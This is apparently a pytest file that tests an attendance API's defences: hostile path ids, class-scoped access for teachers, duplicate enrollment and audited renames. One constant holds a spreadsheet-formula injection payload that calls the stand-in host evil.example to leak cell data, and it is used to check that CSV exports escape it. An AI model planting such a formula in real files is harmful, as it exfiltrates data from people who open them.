"""What an attacker or a careless client sends: hostile identifiers, names that are formulas,
tokens limited to one class, and ids that belong to someone else. Each answer is checked, and
so is what the stores hold afterwards."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest

from attendance.config.settings import Settings
from attendance.domain.schemas import AttendanceRecord
from attendance.stores.blob import open_blob_store
from attendance.stores.records import open_records
from attendance.web.app import create_app
from tests import redis_db, tokens
from tests.consent import CONSENT_FORM

REDIS_DB = 13
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"details")'


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    return Settings(
        _env_file=None,
        REDIS_URL=redis_db.fresh_db(REDIS_DB),
        blob_store_url=f"file://{tmp_path}/store",
        records_url=f"sqlite:///{tmp_path}/db.sqlite",
        api_tokens=tokens.TOKENS_JSON,
        api_tokens_file=tmp_path / "no-tokens-file.json",
    )


@pytest.fixture
def client(settings):
    return tokens.as_admin(create_app(settings).test_client())


@pytest.fixture
def records(settings):
    return open_records(settings.records_url)


@pytest.fixture
def blobs(settings):
    return open_blob_store(settings.blob_store_url)


def error_code(response, status: int) -> str:
    assert response.status_code == status, (response.status_code, response.get_data(as_text=True))
    body = response.get_json()
    assert set(body) == {"error"} and body["error"]["message"], body
    return body["error"]["code"]


def seed_photos(blobs, *students: str) -> list[str]:
    keys = [f"students/{sid}/{'ab' * 16}-000.jpg" for sid in students]
    for key in keys:
        blobs.put(key, b"jpeg bytes")
    return keys


# --- identifiers --------------------------------------------------------------------------------


@pytest.mark.parametrize("hostile", ["%2E", "%2E%2E", ".", "sec-x%0A", "%2Ehidden"])
def test_a_hostile_student_id_in_a_path_deletes_nothing(client, blobs, hostile):
    keys = seed_photos(blobs, "ann", "ben")
    assert error_code(client.delete(f"/api/v1/students/{hostile}"), 400) == "invalid_student_id"
    assert error_code(client.get(f"/api/v1/students/{hostile}"), 400) == "invalid_student_id"
    assert all(blobs.exists(k) for k in keys)


def test_a_student_id_with_a_newline_is_refused_before_anything_is_stored(client, blobs):
    response = client.post(
        "/api/v1/students",
        data={"student_id": "sec-x\n", "name": "X", "photos": (io.BytesIO(b"x"), "a.jpg")},
        content_type="multipart/form-data",
    )
    assert error_code(response, 400) == "invalid_student_id"
    assert blobs.list("") == []


@pytest.mark.parametrize(
    "path",
    [
        f"/api/v1/annotated/{'ab' * 16}%0A/0",
        f"/api/v1/jobs/{'ab' * 16}%0A",
        f"/api/v1/jobs/{'AB' * 16}",
    ],
)
def test_a_job_id_with_anything_around_it_is_not_found(client, path):
    assert error_code(client.get(path), 404) in ("job_not_found", "not_found")


# --- exports ------------------------------------------------------------------------------------


def test_the_csv_export_never_holds_a_formula(client, records):
    records.upsert_student("evil", HOSTILE, "room-1")
    records.mark_present(
        AttendanceRecord(
            class_id="room-1",
            date=dt.date(2026, 11, 2),
            student_id="evil",
            name=HOSTILE,
            first_seen_at=dt.datetime(2026, 11, 2, 8, tzinfo=dt.UTC),
            distance=0.2,
            job_id="ab" * 16,
        )
    )
    response = client.get("/api/v1/attendance?class_id=room-1&format=csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.data.startswith("\ufeff".encode())  # spreadsheets then read UTF-8
    rows = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))
    assert [r["name"] for r in rows] == ["'" + HOSTILE]
    assert rows[0]["distance"] == "0.2"
    # The JSON answer is data, not a spreadsheet: the name as it was given.
    assert (
        client.get("/api/v1/attendance?class_id=room-1").get_json()["records"][0]["name"] == HOSTILE
    )


# --- class limits -------------------------------------------------------------------------------


def room1_teacher() -> dict:
    return tokens.bearer(tokens.ROOM1_TEACHER)


def test_a_class_limited_teacher_sees_only_their_classes_jobs_and_photos(client, settings, blobs):
    from attendance.stores.jobs import JobStore

    jobs = JobStore.from_url(settings.redis_url, 60)
    theirs, other, no_class = "a1" * 16, "b2" * 16, "c3" * 16
    jobs.create(theirs, "recognition", 1, class_id="room-1")
    jobs.create(other, "recognition", 1, class_id="room-2")
    jobs.create(no_class, "enrollment", 1)
    for job_id in (theirs, other):
        blobs.put(f"annotated/{job_id}/000.jpg", b"jpeg", "image/jpeg")

    assert client.get(f"/api/v1/jobs/{theirs}", headers=room1_teacher()).status_code == 200
    assert client.get(f"/api/v1/annotated/{theirs}/0", headers=room1_teacher()).status_code == 200
    for path in (
        f"/api/v1/jobs/{other}",
        f"/api/v1/annotated/{other}/0",
        f"/api/v1/jobs/{no_class}",
    ):
        assert error_code(client.get(path, headers=room1_teacher()), 403) == "class_forbidden"
    # An unlimited teacher and the admin see them all.
    for path in (
        f"/api/v1/jobs/{other}",
        f"/api/v1/annotated/{other}/0",
        f"/api/v1/jobs/{no_class}",
    ):
        assert client.get(path, headers=tokens.bearer(tokens.TEACHER)).status_code == 200
        assert client.get(path).status_code == 200


def test_a_class_limited_teacher_sees_only_their_classes_of_a_student_and_the_model(
    client, records, blobs, settings
):
    from attendance.domain.pipelines import pipeline_id
    from attendance.stores.gallery import GalleryRepository

    records.upsert_student("ann", "Ann", "room-1")
    records.upsert_student("ann", "Ann", "room-2")
    records.upsert_student("bob", "Bob", "room-2")
    GalleryRepository(blobs, records).commit(
        __import__("numpy").ones((3, 128)),
        ["ann", "bob", "bob"],
        segment_id="j1",
        pipeline=pipeline_id(settings),
        model_name="Facenet",
        detector=settings.detector,
        metric="cosine",
        threshold=0.45,
    )

    ann = client.get("/api/v1/students/ann", headers=room1_teacher()).get_json()
    assert ann["class_ids"] == ["room-1"]
    listed = client.get("/api/v1/students", headers=room1_teacher()).get_json()["students"]
    assert [(s["student_id"], s["class_ids"]) for s in listed] == [("ann", ["room-1"])]
    assert (
        error_code(client.get("/api/v1/students/bob", headers=room1_teacher()), 404)
        == "student_not_found"
    )
    model = client.get("/api/v1/model", headers=room1_teacher()).get_json()
    assert (model["students"], model["embeddings"]) == (1, 1)
    everything = client.get("/api/v1/model").get_json()
    assert (everything["students"], everything["embeddings"]) == (2, 3)
    assert client.get("/api/v1/students/ann").get_json()["class_ids"] == ["room-1", "room-2"]


def test_exporting_attendance_needs_a_teacher(client, records):
    records.upsert_student("ann", "Ann", "room-1")
    url = "/api/v1/attendance?class_id=room-1"
    viewer = tokens.bearer(tokens.VIEWER)
    assert client.get(url, headers=viewer).status_code == 200
    assert error_code(client.get(url + "&format=csv", headers=viewer), 403) == "forbidden"
    assert client.get(url + "&format=csv", headers=room1_teacher()).status_code == 200
    assert (
        error_code(
            client.get("/api/v1/attendance?class_id=room-2&format=csv", headers=room1_teacher()),
            403,
        )
        == "class_forbidden"
    )


# --- one id, one student ------------------------------------------------------------------------


def face_upload(faces_dir):
    return (io.BytesIO((faces_dir / "img2.jpg").read_bytes()), "img2.jpg")


def test_enrolling_a_taken_id_is_refused_and_stores_nothing(client, records, blobs, faces_dir):
    records.upsert_student("ben", "Ben Affleck", "room-2")
    for name in ("Benjamin Someone", "Ben Affleck"):
        response = client.post(
            "/api/v1/students",
            data={
                "student_id": "ben",
                "name": name,
                "class_id": "room-1",
                "photos": face_upload(faces_dir),
            },
            content_type="multipart/form-data",
        )
        assert error_code(response, 409) == "student_exists"
        assert "/api/v1/students/ben/photos" in response.get_json()["error"]["message"]
    assert records.get_student("ben").name == "Ben Affleck"
    assert records.get_student("ben").class_ids == ["room-2"]
    assert blobs.list("") == []


def test_adding_photos_is_its_own_request(client, records, settings, blobs, faces_dir):
    from attendance.stores.jobs import JobStore

    response = client.post(
        "/api/v1/students/nobody/photos",
        data={"photos": face_upload(faces_dir)},
        content_type="multipart/form-data",
    )
    assert error_code(response, 404) == "student_not_found"
    records.upsert_student("ben", "Ben Affleck", "room-2")
    response = client.post(
        "/api/v1/students/ben/photos",
        data={"photos": face_upload(faces_dir), "class_id": "room-1", **CONSENT_FORM},
        content_type="multipart/form-data",
    )
    assert response.status_code == 202, response.get_json()
    job_id = response.get_json()["job_id"]
    job = JobStore.from_url(settings.redis_url, 60).get(job_id)
    assert (job.kind, job.class_id) == ("enrollment", "room-1")
    assert blobs.exists(f"students/ben/jobs/{job_id}")  # so an erasure finds the job
    assert (
        error_code(
            client.post(
                "/api/v1/students/ben/photos",
                data={"photos": face_upload(faces_dir)},
                content_type="multipart/form-data",
                headers=tokens.bearer(tokens.TEACHER),
            ),
            403,
        )
        == "forbidden"
    )


def test_renaming_is_its_own_audited_request(client, records):
    records.upsert_student("ben", "Ben Affleck", "room-2")
    response = client.patch("/api/v1/students/ben", json={"name": "Benjamin Affleck"})
    assert response.status_code == 200, response.get_json()
    assert response.get_json()["name"] == "Benjamin Affleck"
    assert records.get_student("ben").name == "Benjamin Affleck"
    [entry] = [e for e in records.list_audit() if e.action == "rename_student"]
    assert (entry.actor, entry.target) == ("admin", "ben")
    assert "Affleck" not in json.dumps(entry.detail)  # the audit log outlives an erasure

    assert (
        error_code(client.patch("/api/v1/students/nobody", json={"name": "X"}), 404)
        == "student_not_found"
    )
    assert (
        error_code(client.patch("/api/v1/students/ben", json={"name": ""}), 400) == "missing_name"
    )
    assert (
        error_code(client.patch("/api/v1/students/ben", json={"name": "X", "id": "y"}), 400)
        == "invalid_request"
    )
    assert (
        error_code(client.patch("/api/v1/students/ben", data="name=X"), 415)
        == "unsupported_media_type"
    )
    assert (
        error_code(
            client.patch(
                "/api/v1/students/ben", json={"name": "X"}, headers=tokens.bearer(tokens.TEACHER)
            ),
            403,
        )
        == "forbidden"
    )
    assert records.get_student("ben").name == "Benjamin Affleck"
